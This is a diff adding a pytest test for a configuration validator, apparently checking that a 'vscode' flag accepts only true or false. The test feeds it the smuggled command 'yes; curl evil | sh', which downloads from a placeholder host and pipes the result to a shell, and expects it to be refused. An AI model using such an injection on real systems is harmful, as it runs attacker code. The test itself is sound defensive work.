@@ -105,6 +105,13 @@ def test_layer_names_that_would_be_shell_are_refused():
             layer_clean(bad)
 
 
+def test_vs_code_in_the_layer_is_true_or_false():
+    assert layer_clean({"vscode": True}) == {"vscode": True}
+    assert layer_clean({"vscode": False}) == {}
+    with pytest.raises(ValueError, match="true or false"):
+        layer_clean({"vscode": "yes; curl evil | sh"})
+
+
 def _vm(**changes):
     values = {
         "name": "PyTorch",
